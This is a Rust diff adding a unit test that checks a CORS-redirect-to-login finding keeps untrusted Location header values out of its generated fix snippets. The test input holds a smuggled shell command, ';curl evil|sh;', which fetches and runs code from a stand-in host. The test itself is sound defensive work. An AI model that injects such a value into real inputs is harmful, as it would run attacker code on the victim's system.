@@ -175,3 +175,40 @@ pub(super) fn cors_redirect_to_login(ctx: &Ctx<'_, '_>, out: &mut Vec<Finding>) 
     }
     out.push(x);
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::correlate::Correlation;
+    use crate::model::{Capture, Header, Headers};
+    use std::borrow::Cow;
+
+    /// The snippets hold no capture value, so a hostile login URL cannot reach them.
+    #[test]
+    fn hostile_redirect_stays_out_of_the_snippets() {
+        let location = "https://login.microsoftonline.com/x/oauth2/authorize?q=';curl evil|sh;echo '\"$host";
+        let ex = Exchange {
+            method: Cow::Borrowed("GET"),
+            url: Cow::Borrowed("https://api.example.net/v1/me"),
+            status: 302,
+            request_headers: Headers(vec![
+                Header::new("Origin", "https://app.example.com"),
+                Header::new("Sec-Fetch-Mode", "cors"),
+                Header::new("Sec-Fetch-Dest", "empty"),
+            ]),
+            response_headers: Headers(vec![Header::new("Location", location)]),
+            page_url: Some(Cow::Borrowed("https://app.example.com/")),
+            resource_type: Some(Cow::Borrowed("fetch")),
+            ..Default::default()
+        };
+        let cap = Capture { exchanges: vec![ex], ..Default::default() };
+        let corr = Correlation::build(&cap);
+        let ctx = Ctx::new(&cap, &corr, 0, &cap.exchanges[0]);
+        let mut out = Vec::new();
+        cors_redirect_to_login(&ctx, &mut out);
+        assert!(out.iter().any(|f| f.id == FindingId::CorsRedirectToLogin), "{out:?}");
+        for s in out.iter().flat_map(|f| &f.fix.snippets) {
+            assert!(!s.code.contains("evil") && !s.code.contains("microsoftonline"), "{}", s.code);
+        }
+    }
+}
